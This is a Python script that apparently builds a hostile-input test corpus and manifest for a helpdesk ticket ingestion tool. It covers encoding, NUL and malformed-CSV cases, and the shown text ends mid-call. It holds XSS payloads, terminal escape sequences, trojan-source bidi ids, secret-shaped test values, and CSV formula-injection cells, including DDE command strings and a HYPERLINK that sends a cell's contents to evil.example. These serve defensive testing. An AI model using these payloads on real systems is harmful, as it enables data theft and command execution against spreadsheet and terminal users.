"""Writes corpus/ and corpus/MANIFEST.jsonl: issue 13's hostile inputs and what each must give.

Run once (``python make_corpus.py``); the files are committed, this script documents
how each was made and computes the physical row numbers the manifest expects.
Inputs that are large or dangerous once expanded (zip bombs, archives with path
tricks, symlinked folders, cells over the 64 MiB limit) are not files here: the
manifest names their builder in builders.py and tests build them at test time.

Manifest fields (one JSON object per line):
  file        path under corpus/ (a file, or a folder for kind "kb"); for built inputs
              "builders.py::NAME"
  kind        "tickets" | "kb" | "kb-zip"
  builder     builder name in builders.py, with "args" (built inputs only)
  preset      ticket preset to ingest with (optional)
  good_ids    ids that must be in the store after the ingest
  bad_ids     ids that must NOT be in the store (the rejected rows' own ids, where unique)
  exact       true: the stored ids must be exactly good_ids (default true)
  rejected    [{row | path, field, reason}]: a reject must name that row (ticket files:
              physical line, header = 1) or path (kb: relative to the folder; kb-zip: member
              name), that field ("*" = any), with a reason containing one of the
              "|"-separated keywords (case-insensitive)
  file_error  keywords: the whole file may be refused with an InvalidInput (JSON 4xx on the
              API) whose message contains one of them; no crash either way
  expect_fields {id: {field: value}}: stored values that must survive exactly (encodings)
  secrets     values that must never appear on any surface
  isolate     true: run in a subprocess with a memory cap (bombs, huge inputs)
  notes       why the file exists, and what today's code is expected to do with it
"""

# ruff: noqa: E501 - most of this file is test data: payloads, rows and expectations on one line each

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
CORPUS = HERE / "corpus"
MANIFEST: list[dict[str, Any]] = []

# ----------------------------------------------------------------------- helpers


def breaks(text: str) -> int:
    """Line breaks as an editor counts them: \\r\\n, \\r and \\n each end a line."""
    return len(re.findall(r"\r\n|\r|\n", text))


_TITLES = [
    "Printer offline, jobs stuck in queue",
    "Outlook keeps prompting for password",
    "VPN drops every 10 minutes",
    "Mapped drive missing after reboot",
    "New starter needs a laptop",
    "Teams camera not detected",
    "Scanner to e-mail fails",
    "Password expired, cannot sign in",
]


def ticket(ticket_id: str, number: int = 0, **fields: Any) -> dict[str, Any]:
    """A ticket that is valid in the canonical format; ``fields`` override or add values."""
    base: dict[str, Any] = {
        "id": ticket_id,
        "title": f"{_TITLES[number % len(_TITLES)]} ({ticket_id})",
        "description": "User reports the problem since this morning; screenshot attached.",
        "resolution": (
            "Cause: the service had stopped after an update. Restarted it, tested with the "
            "user, confirmed working. See KB-T001."
        ),
        "status": "Closed",
        "priority": "P3",
        "category": "Printing",
        "client": "Acme Dental",
        "assignee": "Dana Whitfield",
        "created_at": "2025-10-01T09:00:00Z",
        "resolved_at": "2025-10-01T10:00:00Z",
        "closed_at": "2025-10-01T11:00:00Z",
        "time_spent_minutes": 35,
        "reopen_count": 0,
        "escalation_count": 0,
        "kb_links": ["KB-T001"],
    }
    base.update(fields)
    return base


CSV_HEADER = [
    "id",
    "title",
    "description",
    "resolution",
    "status",
    "priority",
    "category",
    "client",
    "assignee",
    "created_at",
    "resolved_at",
    "closed_at",
    "time_spent_minutes",
    "reopen_count",
    "escalation_count",
    "kb_links",
]


def cells(record: dict[str, Any], header: list[str] = CSV_HEADER) -> list[str]:
    out = []
    for name in header:
        value = record.get(name, "")
        if isinstance(value, list):
            value = ";".join(value)
        out.append("" if value is None else str(value))
    return out


class Text:
    """A text file built piece by piece, tracking the physical line each piece starts on."""

    def __init__(self, newline: str = "\n") -> None:
        self.newline = newline
        self.parts: list[str] = []

    @property
    def line(self) -> int:
        return breaks("".join(self.parts)) + 1

    def raw(self, text: str) -> int:
        line = self.line
        self.parts.append(text)
        return line

    def row(self, values: list[str], newline: str | None = None, delimiter: str = ",") -> int:
        buffer = io.StringIO()
        # Written with CRLF so a cell holding a lone CR or LF is always quoted, then given the
        # line end this row should have.
        csv.writer(buffer, lineterminator="\r\n", delimiter=delimiter).writerow(values)
        return self.raw(buffer.getvalue()[:-2] + (newline or self.newline))

    def json(self, value: Any, newline: str | None = None) -> int:
        return self.raw(json.dumps(value, ensure_ascii=False) + (newline or self.newline))

    def text(self) -> str:
        return "".join(self.parts)


def write(name: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    path = CORPUS / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode(encoding, errors="surrogatepass")
    path.write_bytes(data)
    return path


def entry(file: str, kind: str, good_ids: list[str], **fields: Any) -> None:
    record: dict[str, Any] = {"file": file, "kind": kind, "good_ids": good_ids}
    record.setdefault("bad_ids", [])
    record.update(fields)
    record.setdefault("rejected", [])
    record.setdefault("secrets", [])
    record.setdefault("notes", "")
    MANIFEST.append(record)


def rej(where: int | str, field: str, reason: str) -> dict[str, Any]:
    key = "row" if isinstance(where, int) else "path"
    return {key: where, "field": field, "reason": reason}


# --------------------------------------------------------------- secrets (values)

S = {
    "temp_pw": "Summer2025!",
    "pw_reset_to": "Winter2024!",
    "new_pass": "Tr0ub4dor&3",
    "temp_password": "Kx9#mP2$vL",
    "aws_secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8aLp3Xe",
    "aws_key_id": "AKIAZ3MHQ7TESTV4N2XK",
    "card_unspaced": "4111111111111111",
    "card_unspaced_mc": "5500005555555559",
    "card_spaced": "4012 8888 8888 1881",
    "card_amex_dashed": "3782-822463-10005",
    "bitlocker": "462308-112200-497629-682495-283866-057376-365189-599390",
    "wg_private": "kD9vR2xQ7mN4pL8sT1wY6zB3cF5hJ0gA2eU9iO7rK4M=",
    "wg_psk": "pS7vQ2nL9xR4mT8kW1yB6zC3dF5gH0jA2eU9iO7rK4Q=",
    "sql_password": "Pr0d-Sql!Pass2025",
    "url_password": "Qw3rty-Db-77",
    "account_key": "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A=",
    "github": "ghp_8f3Kz9QmX2vL7pN4tR6wY1bC5dH0jA3sE9uG",
    "slack": "xoxb-2048-7761-Zq8RkW3mTpL5vN9x",
    "jwt": (
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiIsImlhdCI6MTcwMDAwMDAwMH0."
        "Q2hhbmdlTWVJbW1lZGlhdGVseTEyMw"
    ),
    "pem_line": "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun",
    "ssn": "078-05-1120",
    "wifi": "CorpGuest#2025",
    "env_db_password": "s3cr3t-Env-Value",
    "env_aws_secret": "Xq7pL2mN9vB4cR8tY1wZ6sD3fG5hJ0kA7eU2iO9r",
    "client_secret_json": "c1ient-S3cret-9f8e7d6c",
    "basic_auth": "YWRtaW46cGFzc3dvcmQxMjM=",
    "snmp": "Publ1cR3ad-2025",
    "cisco_enable": "Cisc0Enable!2025",
    "cisco_hash": "$1$mERr$hx5rVt7rPNoS4wqbXKX7m0",
    "email_in_client": "jane.doe.home@gmail.com",
    "phone": "+1 415 555 0199",
    "k8s_token": "k8s-Sa-Tok3n-4f9c2b1a",
    "vpn_psk": "VpnPsk-7788-Acme",
    "passwd_eq": "ChangeMe!987",
    "title_pw": "Welcome123!",
    "sas_sig": "Jf8sK2mP9qL4vR7tX1wZ3yB6cD0eF5gH8iJ2kL4mN6o%3D",
    "stripe": "sk_live_51HxQ9zKp3LmN7vB2cX4wR8tY",
    "google_key": "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY",
    "iban": "DE89 3704 0044 0532 0130 00",
}

PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    f"{S['pem_line']}\n"
    "hW2vQ9sX1cR7tY3uZ5wB8nM2kL4jH6gF0dS9aP1oI3uY7tR5eW2qZ8xC4vB6nM1\n"
    "-----END RSA PRIVATE KEY-----"
)
WIREGUARD = (
    "[Interface]\n"
    f"PrivateKey = {S['wg_private']}\n"
    "Address = 10.8.0.2/32\n\n"
    "[Peer]\n"
    "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n"
    f"PresharedKey = {S['wg_psk']}\n"
    "Endpoint = vpn.acme.example:51820"
)

XSS = [
    "<script>alert('xss-1')</script>",
    "<img src=x onerror=alert('xss-2')>",
    "<svg/onload=alert('xss-3')>",
    "<a href=\"javascript:alert('xss-4')\">click me</a>",
    "\"><script>alert('xss-5')</script>",
    "<iframe src=\"javascript:alert('xss-6')\"></iframe>",
    "<body onload=alert('xss-7')>",
    "{{ config.items() }} {% raw %}{{7*7}}{% endraw %}",
    "&lt;script&gt;alert('xss-8')&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-9')>\">",
    "javascript:alert('xss-10')",
    "<style>body{display:none}</style><b onmouseover=alert('xss-11')>hover</b>",
]

ESCAPES = [
    "\x1b[2J\x1b[HScreen cleared by a ticket title",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07Clipboard written by OSC 52",
    "\x1b]8;;https://evil.example/\x1b\\Click here\x1b]8;;\x1b\\ (OSC 8 hyperlink)",
    "\x9b31mC1 CSI red text\x9b0m",
    "Harmless title\rEVIL overwrite via carriage return",
    "Backspaces\b\b\b\b\b\b\b\b\b\bhide this",
    "\x1b[8mhidden text\x1b[0m and a bell\x07",
    "\x1b]0;window title set by ticket\x07Window title",
]


# =========================================================================== tickets


def encodings() -> None:
    names = [
        "Müller GmbH printer",
        "Café Lumière VPN",
        "打印机 offline in Shanghai office",
        "Straße Büro scanner",
    ]
    # 1. UTF-16 LE with BOM, CSV
    doc = Text("\r\n")
    doc.row(CSV_HEADER)
    ids = []
    for number, title in enumerate(names, start=1):
        tid = f"E16L-{number:03}"
        ids.append(tid)
        doc.row(cells(ticket(tid, number, title=title)))
    write("tickets/enc_utf16le_bom.csv", codecs.BOM_UTF16_LE + doc.text().encode("utf-16-le"))
    entry(
        "tickets/enc_utf16le_bom.csv",
        "tickets",
        ids,
        expect_fields={tid: {"title": title} for tid, title in zip(ids, names, strict=True)},
        notes="UTF-16 LE with BOM and CRLF (Excel 'Unicode text'); everything loads, text intact.",
    )

    # 2. UTF-16 BE with BOM, JSONL, one bad row
    doc = Text()
    doc.json(ticket("E16B-001", 1, title=names[0]))
    doc.json(ticket("E16B-002", 2, title=names[2]))
    bad = doc.json(ticket("E16B-003", 3, title="   "))
    doc.json(ticket("E16B-004", 4, title=names[3]))
    write("tickets/enc_utf16be_bom.jsonl", codecs.BOM_UTF16_BE + doc.text().encode("utf-16-be"))
    entry(
        "tickets/enc_utf16be_bom.jsonl",
        "tickets",
        ["E16B-001", "E16B-002", "E16B-004"],
        bad_ids=["E16B-003"],
        rejected=[rej(bad, "title", "missing")],
        expect_fields={"E16B-002": {"title": names[2]}},
        notes="UTF-16 BE with BOM; a blank title is rejected, the rest load.",
    )

    # 3/4. UTF-16 LE without BOM (CSV and JSONL)
    doc = Text("\r\n")
    doc.row(CSV_HEADER)
    for number, title in enumerate(names, start=1):
        doc.row(cells(ticket(f"E16N-{number:03}", number, title=title)))
    bad = doc.row(cells(ticket("E16N-005", 5, created_at="2025-13-45")))
    write("tickets/enc_utf16le_nobom.csv", doc.text().encode("utf-16-le"))
    entry(
        "tickets/enc_utf16le_nobom.csv",
        "tickets",
        [f"E16N-{n:03}" for n in range(1, 5)],
        bad_ids=["E16N-005"],
        rejected=[rej(bad, "created_at", "date")],
        expect_fields={f"E16N-{n:03}": {"title": t} for n, t in enumerate(names, start=1)},
        notes=(
            "UTF-16 LE without a BOM (some PowerShell exports). Today it is taken for UTF-8 with "
            "NULs, the NULs are dropped, ASCII survives but CJK titles become other letters "
            "(U+6253 is bytes 53 62, 'Sb'): expect_fields catches the silent mojibake."
        ),
    )
    doc = Text()
    for number, title in enumerate(names, start=1):
        doc.json(ticket(f"E16J-{number:03}", number, title=title))
    write("tickets/enc_utf16le_nobom.jsonl", doc.text().encode("utf-16-le"))
    entry(
        "tickets/enc_utf16le_nobom.jsonl",
        "tickets",
        [f"E16J-{n:03}" for n in range(1, 5)],
        expect_fields={f"E16J-{n:03}": {"title": t} for n, t in enumerate(names, start=1)},
        notes="UTF-16 LE JSON Lines without BOM: every row must load with its text intact.",
    )

    # 5. Latin-1 CSV
    latin = [
        "Müller GmbH: Drucker offline",
        "Café: ½ day outage",
        "Ångström Labs VPN",
        "Señor Pérez mailbox",
    ]
    doc = Text("\r\n")
    doc.row(CSV_HEADER)
    for number, title in enumerate(latin, start=1):
        doc.row(
            cells(
                ticket(f"LAT-{number:03}", number, title=title, description="Benutzer: Jürgen Groß")
            )
        )
    bad = doc.row(cells(ticket("LAT-005", 5, time_spent_minutes="zwei Stunden")))
    write("tickets/enc_latin1.csv", doc.text().encode("latin-1"))
    entry(
        "tickets/enc_latin1.csv",
        "tickets",
        [f"LAT-{n:03}" for n in range(1, 5)],
        bad_ids=["LAT-005"],
        rejected=[rej(bad, "time_spent_minutes", "number")],
        expect_fields={f"LAT-{n:03}": {"title": t} for n, t in enumerate(latin, start=1)},
        notes="ISO-8859-1 export (German/French/Spanish names); decoded with a warning, text intact.",
    )

    # 6. Windows-1252 JSONL (smart quotes, euro)
    smart = [
        "Outlook “keeps asking” for password",
        "Invoice printer – €1,200 toner order",
        "Can’t map drive …",
    ]
    doc = Text("\r\n")
    for number, title in enumerate(smart, start=1):
        doc.json(ticket(f"CP-{number:03}", number, title=title))
    write("tickets/enc_cp1252.jsonl", doc.text().encode("cp1252"))
    entry(
        "tickets/enc_cp1252.jsonl",
        "tickets",
        ["CP-001", "CP-002", "CP-003"],
        expect_fields={f"CP-{n:03}": {"title": t} for n, t in enumerate(smart, start=1)},
        notes="Windows-1252 with curly quotes, en dash, euro and ellipsis (bytes 0x80-0x9f).",
    )

    # 7. Valid UTF-8 with one line of invalid bytes
    doc = Text()
    doc.json(ticket("BADU-001", 1, title="Café Lumière printer"))
    doc.json(ticket("BADU-002", 2, title="Straße Büro VPN"))
    raw_line = doc.line
    doc.raw('{"id": "BADU-003", "title": "Broken bytes: @@BAD@@", "created_at": "2025-10-01"}\n')
    doc.json(ticket("BADU-004", 4, title="Ñandú scanner"))
    data = doc.text().encode("utf-8").replace(b"@@BAD@@", b"\xff\xfe\xc3\x28\x80")
    write("tickets/enc_invalid_utf8.jsonl", data)
    entry(
        "tickets/enc_invalid_utf8.jsonl",
        "tickets",
        ["BADU-001", "BADU-002", "BADU-004"],
        exact=False,
        expect_fields={
            "BADU-001": {"title": "Café Lumière printer"},
            "BADU-002": {"title": "Straße Büro VPN"},
            "BADU-004": {"title": "Ñandú scanner"},
        },
        notes=(
            f"UTF-8 except line {raw_line}, which holds the bytes ff fe c3 28 80. That line may load "
            "with replacement characters or be rejected; the good UTF-8 lines must keep their "
            "accents. Today the whole file falls back to Windows-1252, so every good line is "
            "stored as mojibake ('CafÃ©')."
        ),
    )

    # 8. Overlong and CESU-8 surrogate bytes inside a CSV
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("OVL-001", 1, title="Résumé printer")))
    doc.row(
        cells(ticket("OVL-002", 2, description="overlong slash @@OVERLONG@@ and CESU @@CESU@@"))
    )
    doc.row(cells(ticket("OVL-003", 3, title="Zürich office Wi-Fi")))
    data = doc.text().encode("utf-8").replace(b"@@OVERLONG@@", b"\xc0\xaf\xe0\x80\xaf")
    data = data.replace(b"@@CESU@@", b"\xed\xa0\x80\xed\xb0\x80")
    write("tickets/enc_overlong_cesu.csv", data)
    entry(
        "tickets/enc_overlong_cesu.csv",
        "tickets",
        ["OVL-001", "OVL-003"],
        exact=False,
        expect_fields={
            "OVL-001": {"title": "Résumé printer"},
            "OVL-003": {"title": "Zürich office Wi-Fi"},
        },
        notes=(
            "Overlong UTF-8 (c0 af) and CESU-8 surrogate halves (ed a0 80) in one cell: never "
            "decoded into a lone surrogate or '/', and the other rows keep their accents. OVL-002 may "
            "load with replacement characters or be rejected."
        ),
    )

    # 9. Mixed line endings, CSV
    doc = Text()
    doc.row(CSV_HEADER, newline="\r\n")
    doc.row(cells(ticket("MLE-001", 1)), newline="\r\n")
    doc.row(cells(ticket("MLE-002", 2)), newline="\n")
    doc.row(cells(ticket("MLE-003", 3)), newline="\r")
    doc.row(
        cells(ticket("MLE-004", 4, description="line one\rline two\r\nline three\nline four")),
        newline="\n",
    )
    bad = doc.row(cells(ticket("MLE-005", 5, created_at="yesterday")), newline="\r")
    doc.row(cells(ticket("MLE-006", 6)), newline="\n")
    write("tickets/enc_mixed_line_endings.csv", doc.text())
    entry(
        "tickets/enc_mixed_line_endings.csv",
        "tickets",
        ["MLE-001", "MLE-002", "MLE-003", "MLE-004", "MLE-006"],
        bad_ids=["MLE-005"],
        rejected=[rej(bad, "created_at", "date")],
        notes=(
            "Rows end in CRLF, LF and a lone CR; MLE-004 has all three inside a quoted cell. Rows "
            "are physical lines as an editor counts them (a lone CR ends a line)."
        ),
    )

    # 10. Mixed line endings, JSONL (a lone CR between two objects)
    doc = Text()
    doc.json(ticket("MLJ-001", 1), newline="\r\n")
    doc.json(ticket("MLJ-002", 2), newline="\r")
    doc.json(ticket("MLJ-003", 3), newline="\n")
    doc.json(ticket("MLJ-004", 4), newline="\r")
    bad = doc.raw('{"id": "MLJ-005", "title": "truncated\n')
    doc.json(ticket("MLJ-006", 6), newline="\r\n")
    write("tickets/enc_mixed_line_endings.jsonl", doc.text())
    entry(
        "tickets/enc_mixed_line_endings.jsonl",
        "tickets",
        ["MLJ-001", "MLJ-002", "MLJ-003", "MLJ-004", "MLJ-006"],
        rejected=[rej(bad, "*", "json")],
        notes=(
            "JSON Lines with CRLF, LF and lone CR line ends (classic Mac / a tool that writes \\r). "
            "Today lines are split on LF only, so MLJ-002+MLJ-003 and MLJ-004+MLJ-005 become one "
            "invalid line each and good rows are lost."
        ),
    )

    # 11. NUL bytes, CSV
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("NUL-001", 1, description="NUL@@NUL@@inside a cell")))
    doc.row(cells(ticket("NUL@@NUL@@-002", 2)))
    doc.raw("@@NUL@@" * 16 + "\n")
    doc.row(cells(ticket("NUL-003", 3, title="Title with trailing NUL@@NUL@@")))
    write("tickets/enc_nul_bytes.csv", doc.text().replace("@@NUL@@", "\x00"))
    entry(
        "tickets/enc_nul_bytes.csv",
        "tickets",
        ["NUL-001", "NUL-002", "NUL-003"],
        notes="NUL bytes inside cells, inside an id and as a whole line: removed with a warning, rows kept.",
    )

    # 12. NUL bytes, JSONL (raw and \\u0000 escapes)
    doc = Text()
    doc.raw(
        '{"id": "NULJ-001",\x00 "title": "Raw NUL between tokens", "created_at": "2025-10-01"}\n'
    )
    doc.raw(
        '{"id": "NULJ-002", "title": "Escaped \\u0000 NUL in title", "description": "a\\u0000b"}\n'
    )
    doc.raw('{"id": "NULJ-\\u0000003", "title": "Escaped NUL in the id"}\n')
    doc.raw("\x00\x00\x00\n")
    doc.json(ticket("NULJ-004", 4))
    write("tickets/enc_nul_bytes.jsonl", doc.text())
    entry(
        "tickets/enc_nul_bytes.jsonl",
        "tickets",
        ["NULJ-001", "NULJ-002", "NULJ-003", "NULJ-004"],
        notes="NUL as raw bytes and as \\u0000 escapes (PostgreSQL refuses NUL in text).",
    )

    # 13. UTF-8 BOM, CRLF, header with spaces and odd case
    header = ["\ufeff ID ", "Title ", " Description", "RESOLUTION", "created_at"]
    doc = Text("\r\n")
    doc.raw(",".join(header) + "\r\n")
    for number in range(1, 4):
        t = ticket(f"BOM-{number:03}", number)
        doc.row([t["id"], t["title"], t["description"], t["resolution"], t["created_at"]])
    write("tickets/enc_utf8_bom_crlf.csv", doc.text())
    entry(
        "tickets/enc_utf8_bom_crlf.csv",
        "tickets",
        ["BOM-001", "BOM-002", "BOM-003"],
        notes="Excel 'CSV UTF-8': BOM, CRLF, header names with spaces and capitals.",
    )

    # 14. Invisible and bidi characters
    doc = Text()
    doc.json(ticket("ZW-001", 1, title="Invoice \u202eFDP.exe\u202c attachment blocked"))
    bad = doc.json(ticket("ZW\u200b-001", 2, title="Looks like ZW-001 but has a zero-width space"))
    bad2 = doc.json(ticket("ZW-\u2066002\u2069", 3, title="Id wrapped in bidi isolates"))
    doc.json(ticket("ZW-003", 4, description="zero\u200bwidth\u200djoiner\ufeffBOM mid-text"))
    write("tickets/enc_invisible_chars.jsonl", doc.text())
    entry(
        "tickets/enc_invisible_chars.jsonl",
        "tickets",
        ["ZW-001", "ZW-003"],
        rejected=[
            rej(bad, "id", "invisible|character|control|format"),
            rej(bad2, "id", "invisible|character|control|format"),
        ],
        notes=(
            "Trojan-source style ids: a zero-width space and bidi isolates make an id that looks "
            "like another; an id must be visible text. Bidi overrides in titles are kept (display "
            "must isolate them)."
        ),
    )


def broken_csv() -> None:
    # 15. Unclosed quote at the end swallows the rest of the file
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("CQ-001", 1)))
    doc.row(cells(ticket("CQ-002", 2)))
    t = ticket("CQ-003", 3)
    bad = doc.raw(
        f'CQ-003,{t["title"]},"Description with an unclosed quote,{t["resolution"]},Closed,P3\n'
    )
    plain = {
        "title": "Mapped drive missing after reboot",
        "description": "Drive S is gone",
        "resolution": "Re-ran the logon script and tested with the user",
    }
    for number in range(4, 7):
        # No commas or quotes in these rows, so nothing closes the stray quote before the end.
        doc.row(cells(ticket(f"CQ-{number:03}", number, **plain)))
    write("tickets/csv_unclosed_quote_eof.csv", doc.text())
    entry(
        "tickets/csv_unclosed_quote_eof.csv",
        "tickets",
        ["CQ-001", "CQ-002", "CQ-004", "CQ-005", "CQ-006"],
        bad_ids=["CQ-003"],
        rejected=[rej(bad, "*", "quote")],
        notes=(
            "Issue 13 finding 6: the quote opened on CQ-003's description never closes, so today "
            "CQ-004..CQ-006 become part of its description and the run reports CQ-003 as added."
        ),
    )

    # 16. Unclosed quote closed by a later quoted cell
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("CQM-001", 1)))
    doc.row(cells(ticket("CQM-002", 2)))
    t = ticket("CQM-003", 3)
    bad = doc.raw(f'CQM-003,{t["title"]},"Screen shows 5 stripes,{t["resolution"]},Closed,P3\n')
    doc.row(cells(ticket("CQM-004", 4)))
    doc.row(cells(ticket("CQM-005", 5)))
    doc.row(cells(ticket("CQM-006", 6, description="Quoted, with a comma")))
    doc.row(cells(ticket("CQM-007", 7)))
    doc.row(cells(ticket("CQM-008", 8)))
    write("tickets/csv_unclosed_quote_midfile.csv", doc.text())
    entry(
        "tickets/csv_unclosed_quote_midfile.csv",
        "tickets",
        ["CQM-001", "CQM-002", "CQM-004", "CQM-005", "CQM-006", "CQM-007", "CQM-008"],
        bad_ids=["CQM-003"],
        rejected=[rej(bad, "*", "quote")],
        notes=(
            "An unclosed quote that a later quoted cell ('\"Quoted, with a comma\"' of CQM-006) "
            "closes: the rows between are swallowed and the cells after are shifted."
        ),
    )

    # 17. Stray quotes inside unquoted cells (legal for Excel, tolerated by csv)
    doc = Text()
    doc.row(["id", "title", "description", "created_at"])
    doc.raw('SQ-001,27" monitor flickers,User says the 27" screen flickers,2025-10-01\n')
    doc.raw('SQ-002,Label says "FRAGILE",Box marked ""FRAGILE"" arrived broken,2025-10-01\n')
    doc.raw('SQ-003,"Quoted title" with trailing text,ok,2025-10-01\n')
    write("tickets/csv_stray_quotes.csv", doc.text())
    entry(
        "tickets/csv_stray_quotes.csv",
        "tickets",
        ["SQ-001", "SQ-002", "SQ-003"],
        notes="Quotes inside unquoted cells and text after a closing quote: load as written.",
    )

    # 18. Ragged rows
    doc = Text()
    doc.row(["id", "title", "description", "resolution", "created_at", "kb_links"])
    doc.row(["RG-001", "Full row", "desc", "res", "2025-10-01", "KB-1"])
    doc.row(["RG-002", "Short row, missing trailing cells"])
    doc.row(["RG-003", "Trailing empty cells", "d", "r", "2025-10-01", "", "", ""])
    bad = doc.row(["RG-004", "Extra cells", "d", "r", "2025-10-01", "KB-1", "surprise", "more"])
    bad2 = doc.row(["RG-005"])
    doc.raw(",,,,,\n")
    doc.row(["RG-006", "After a row of commas", "d", "r", "2025-10-01", "KB-2"])
    write("tickets/csv_ragged_rows.csv", doc.text())
    entry(
        "tickets/csv_ragged_rows.csv",
        "tickets",
        ["RG-001", "RG-002", "RG-003", "RG-006"],
        bad_ids=["RG-004", "RG-005"],
        rejected=[rej(bad, "*", "cells|columns"), rej(bad2, "title", "missing")],
        notes="Short rows load with empty fields; a row with extra non-empty cells is rejected.",
    )

    # 19. Duplicate header (non-key column)
    doc = Text()
    doc.row(["id", "title", "description", "Description", "resolution"])
    doc.row(["DH-001", "Two description columns", "first", "second", "Fixed it, tested"])
    doc.row(["DH-002", "Only the second one filled", "", "second only", "Fixed it, tested"])
    write("tickets/csv_duplicate_headers.csv", doc.text())
    entry(
        "tickets/csv_duplicate_headers.csv",
        "tickets",
        ["DH-001", "DH-002"],
        notes="'description' appears twice in the header: rows load; a warning should name the repeated column.",
    )

    # 20. Duplicate id column with conflicting values
    doc = Text()
    doc.row(["id", "title", "ID", "description"])
    doc.row(["DI-001", "Both id columns agree", "DI-001", "d"])
    bad = doc.row(["DI-002", "Id columns disagree", "DI-999", "d"])
    doc.row(["DI-003", "Second id empty", "", "d"])
    write("tickets/csv_duplicate_id_header.csv", doc.text())
    entry(
        "tickets/csv_duplicate_id_header.csv",
        "tickets",
        ["DI-001", "DI-003"],
        bad_ids=["DI-002", "DI-999"],
        rejected=[rej(bad, "id", "conflict|ambiguous|differ|disagree|duplicate column|twice")],
        notes=(
            "The header names the id column twice (id, ID). Rows where both agree (or one is empty) "
            "load; a row where they differ is ambiguous and is rejected. Today the first non-empty "
            "wins silently."
        ),
    )

    # 21/22. Missing required columns
    doc = Text()
    doc.row(["id", "summary", "description"])
    doc.row(["MC-001", "Title is in a column called summary", "d"])
    write("tickets/csv_missing_title_column.csv", doc.text())
    entry(
        "tickets/csv_missing_title_column.csv",
        "tickets",
        [],
        file_error="title",
        notes="No column maps to title: the documented outcome is one error naming the columns found.",
    )
    doc = Text()
    doc.row(["ticket", "title", "description"])
    doc.row(["MC-002", "Id column has an unknown name", "d"])
    write("tickets/csv_missing_id_column.csv", doc.text())
    entry(
        "tickets/csv_missing_id_column.csv",
        "tickets",
        [],
        file_error="id",
        notes="No column maps to id: one clear error, no crash.",
    )

    # 23-26. Header only, empty, whitespace only
    write("tickets/csv_header_only.csv", ",".join(CSV_HEADER) + "\n")
    entry(
        "tickets/csv_header_only.csv",
        "tickets",
        [],
        notes="A header and no rows: nothing loaded, no error.",
    )
    write("tickets/csv_header_only_no_newline.csv", ",".join(CSV_HEADER))
    entry(
        "tickets/csv_header_only_no_newline.csv",
        "tickets",
        [],
        notes="A header without a final newline.",
    )
    write("tickets/csv_empty.csv", b"")
    entry("tickets/csv_empty.csv", "tickets", [], notes="A zero-byte file: a warning, no crash.")
    write("tickets/csv_whitespace_only.csv", "\n\n   \r\n\t\n")
    entry("tickets/csv_whitespace_only.csv", "tickets", [], notes="Blank lines only.")

    # 27. Big field (over the csv module's default 128 KiB, under kbassist's 64 MiB)
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("BF-001", 1)))
    big = "<p>" + ("Pasted event log line 4625 failed logon. " * 3400) + "</p>"
    doc.row(cells(ticket("BF-002", 2, description=big)))
    doc.row(cells(ticket("BF-003", 3)))
    write("tickets/csv_big_field.csv", doc.text())
    entry(
        "tickets/csv_big_field.csv",
        "tickets",
        ["BF-001", "BF-002", "BF-003"],
        notes="A 140 KB HTML description (above csv's default cell limit): loads.",
    )

    # 28. Embedded newlines, then a bad row whose physical line must be reported
    doc = Text()
    doc.row(CSV_HEADER)
    doc.row(cells(ticket("EN-001", 1, description="line 1\nline 2\n\nline 4 after a blank line")))
    doc.row(cells(ticket("EN-002", 2, resolution="Steps:\r\n1. restart\r\n2. test\r\n3. confirm")))
    doc.row(cells(ticket("EN-003", 3, title="Title\nwith a newline")))
    bad = doc.row(cells(ticket("EN-004", 4, closed_at="2025-09-01T00:00:00Z")))
    doc.row(cells(ticket("EN-005", 5, description='Quote "inside" and, comma\nand newline')))
    write("tickets/csv_embedded_newlines.csv", doc.text())
    entry(
        "tickets/csv_embedded_newlines.csv",
        "tickets",
        ["EN-001", "EN-002", "EN-003", "EN-005"],
        bad_ids=["EN-004"],
        rejected=[rej(bad, "closed_at", "before")],
        notes=f"Quoted cells spanning lines; the bad row EN-004 starts on physical line {bad}.",
    )

    # 29. Semicolon delimiter with decimal commas
    doc = Text("\r\n")
    doc.row(["id", "title", "description", "time_spent_minutes", "created_at"], delimiter=";")
    doc.row(
        ["SC-001", "Drucker, Etage 2", "Papierstau, Fach 1", "1,5", "01.10.2025"], delimiter=";"
    )
    doc.row(
        ["SC-002", "VPN, Homeoffice", "Client neu installiert", "30", "2025-10-01"], delimiter=";"
    )
    write("tickets/csv_semicolon_excel.csv", doc.text())
    entry(
        "tickets/csv_semicolon_excel.csv",
        "tickets",
        ["SC-002"],
        bad_ids=["SC-001"],
        rejected=[rej(2, "created_at", "date")],
        notes="European Excel: semicolons, commas inside cells, decimal comma; a German date is rejected.",
    )

    # 30. CSV formula injection in every text cell
    doc = Text()
    doc.row(CSV_HEADER)
    formulas = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    for number, formula in enumerate(formulas, start=1):
        doc.row(
            cells(
                ticket(
                    f"FI-{number:03}",
                    number,
                    title=f"{formula} ticket",
                    description=formula,
                    resolution=formula,
                    client=f"{formula} Ltd",
                    assignee="Dana Whitfield",
                )
            )
        )
    write("tickets/csv_formula_injection.csv", doc.text())
    entry(
